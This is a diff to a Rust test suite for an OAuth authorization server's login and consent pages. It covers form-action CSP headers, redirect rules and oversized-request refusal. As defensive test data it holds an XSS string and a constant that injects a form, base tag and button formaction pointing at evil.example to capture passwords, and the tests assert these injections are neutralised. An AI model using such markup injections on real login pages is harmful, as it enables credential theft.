@@ -11,6 +11,9 @@ use grantor_testkit::{
 /// Text that would be markup, an attribute or a script where it is not escaped.
 const MARKUP: &str = "\"'><script>alert(1)</script><img src=x onerror=alert(1)> &lt;{{1234*1000}}";
 
+/// What would send a typed password elsewhere, if it were markup.
+const FORM: &str = "\"><form action=\"https://evil.example\"><base href=//evil.example><button formaction=//evil.example form=\"x\">";
+
 /// RFC 9700 sections 4.16 and 4.2.4.
 fn assert_guarded(page: &Answer) {
     assert_eq!(page.header("x-frame-options"), "DENY", "{page:?}");
@@ -39,10 +42,10 @@ async fn every_page(server: &TestServer, authorization: &AuthorizationRequest) -
     let login = alice.get(to_login.header("location")).await;
     let form = Form::of(&login, "/login").fill("username", "alice");
     let wrong = alice.submit(form.clone().fill("password", "wrong")).await;
+    let stale = alice.submit(form.clone().fill("form_token", "x")).await;
     let signed_in = alice.submit(form.fill("password", "alice-password")).await;
     let consent = alice.get(signed_in.header("location")).await;
     let form = Form::of(&consent, "/consent");
-    let expired = alice.submit(form.clone().fill("form_token", "x")).await;
     let unclear = alice.submit(form.clone()).await;
     let posted = alice.submit(form.fill("decision", "approve")).await;
     let bad_client = alice
@@ -55,7 +58,7 @@ async fn every_page(server: &TestServer, authorization: &AuthorizationRequest) -
         .get(&authorization.clone().and("client_id", MARKUP).path())
         .await;
     vec![
-        login, wrong, consent, expired, unclear, posted, bad_client, bad_uri, twice,
+        login, wrong, consent, stale, unclear, posted, bad_client, bad_uri, twice,
     ]
 }
 
@@ -70,40 +73,63 @@ async fn clickjacking_no_page_of_the_flow_can_be_framed_cached_or_leaked_by_refe
     }
 }
 
-/// A form leads to ourselves and, where its answer is a redirect to an app, to that app alone.
+/// Browsers hold to `form-action` also the redirects that follow the app's own callback. So the pages of a proven request
+/// allow https, and what its own redirect URI needs; all others lead to ourselves alone. `origins` is for CORS alone.
 #[tokio::test]
-async fn form_action_allows_the_requesting_app_only() {
-    let server = TestServer::new().await;
-    let authorization = AuthorizationRequest::new(SHOP).with("response_mode", "form_post");
-    let pages = every_page(&server, &authorization).await;
-    for (page, leads) in pages
-        .iter()
-        .zip([true, true, true, false, false, true, false, false, false])
-    {
-        let policy = page.header("content-security-policy");
-        let expected = if leads {
-            "form-action 'self' https://shop.example.com;"
-        } else {
-            "form-action 'self';"
-        };
-        assert!(policy.contains(expected), "{policy}");
-    }
-}
-
-/// Browsers hold also the redirects that follow the app's own callback to `form-action`: they lead to origins that the
-/// operator declared, and nowhere else.
-#[tokio::test]
-async fn form_action_allows_the_origins_of_the_client() {
+async fn form_action_allows_https_on_the_pages_of_a_proven_request_only() {
     let server = TestServer::with(|realm| {
         client(realm, "shop").origins = vec!["https://front.example.com".to_owned()];
     })
     .await;
-    let authorization = AuthorizationRequest::new(SHOP).with("response_mode", "form_post");
-    let pages = every_page(&server, &authorization).await;
-    for page in [&pages[0], &pages[2], &pages[5]] {
+    for (app, proven) in [
+        (SHOP, "form-action 'self' https:;"),
+        (
+            NATIVE,
+            "form-action 'self' https: http://127.0.0.1:* http://localhost:*;",
+        ),
+    ] {
+        let authorization = AuthorizationRequest::new(app).with("response_mode", "form_post");
+        let pages = every_page(&server, &authorization).await;
+        for (page, leads) in pages
+            .iter()
+            .zip([true, true, true, true, false, true, false, false, false])
+        {
+            let policy = page.header("content-security-policy");
+            let expected = if leads { proven } else { "form-action 'self';" };
+            assert!(policy.contains(expected), "{policy}");
+        }
+    }
+    for path in ["/login", "/login?return_to=/device", "/", "/logout"] {
+        let page = server.browser().get(path).await;
         let policy = page.header("content-security-policy");
-        let expected = "form-action 'self' https://front.example.com https://shop.example.com; frame-ancestors";
-        assert!(policy.contains(expected), "{policy}");
+        assert!(policy.contains("form-action 'self';"), "{path}: {policy}");
+    }
+}
+
+/// `https:` on a page with a password would be a way out for it, if a request could bring a form, a field or a base of its
+/// own: whatever it says, each form of ours goes where its template says.
+#[tokio::test]
+async fn no_request_adds_a_form_or_changes_where_one_goes() {
+    let server = TestServer::with(|realm| client(realm, "shop").name = FORM.to_owned()).await;
+    let names = ["state", "nonce", "login_hint", "ui_locales", "display"];
+    let authorization = names
+        .into_iter()
+        .fold(AuthorizationRequest::new(SHOP), |authorization, name| {
+            authorization.with(name, FORM)
+        });
+    for page in &every_page(&server, &authorization).await[..3] {
+        let actions: Vec<_> = page.body.split("action=\"").skip(1).collect();
+        assert!(!actions.is_empty());
+        for action in actions {
+            let action = action.split('"').next().unwrap_or_default();
+            assert!(
+                ["/login", "/consent", "/logout"].contains(&action),
+                "{action}"
+            );
+        }
+        for sent in ["<base", "<button formaction", "<form action"] {
+            assert!(!page.body.contains(sent), "{sent} in {page:?}");
+        }
     }
 }
 
@@ -239,14 +265,16 @@ async fn redirects_with_codes_are_not_cached_nor_referred_to() {
     }
 }
 
-/// More than 8 KiB is no request: what stands between browser and server would cut it, and no client needs it.
+/// More than 8 KiB in an address, or 15 KiB in a form, is no request: what stands between browser and server would cut it, and
+/// no client needs it.
 #[tokio::test]
 async fn a_huge_request_is_refused_with_a_page_at_every_endpoint() {
     let server = TestServer::new().await;
     let mut alice = server.signed_in("alice").await;
     let huge = AuthorizationRequest::new(SPA).with("state", &"s".repeat(8 * 1024));
     crate::authorize::assert_stays(&alice.get(&huge.path()).await, 413);
-    let in_back = encoded(&[("return_to", &huge.path())]);
+    let huger = AuthorizationRequest::new(SPA).with("state", &"s".repeat(15 * 1024));
+    let in_back = encoded(&[("return_to", &huger.path())]);
     let login = alice.get(&format!("/login?{in_back}")).await;
     assert_eq!(Form::of(&login, "/login").fields["return_to"], "/");
     let many = (0..100).fold(AuthorizationRequest::new(SPA), |authorization, n| {
@@ -254,8 +282,10 @@ async fn a_huge_request_is_refused_with_a_page_at_every_endpoint() {
     });
     crate::authorize::assert_stays(&alice.get(&many.path()).await, 400);
     let (mut bob, form) = super::consent_form(&server, "bob", SHOP).await;
-    let page = bob.submit(form.fill("request", &huge.query())).await;
-    super::assert_expired(&page);
+    let page = bob.submit(form.fill("request", &huger.query())).await;
+    crate::authorize::assert_stays(&page, 413);
+    let posted = alice.send(post(AUTHORIZE, &huger.pairs())).await;
+    crate::authorize::assert_stays(&posted, 413);
     let body = "x".repeat(65 * 1024);
     let posted = alice.send(post(AUTHORIZE, &[("state", &body)])).await;
     crate::authorize::assert_stays(&posted, 413);
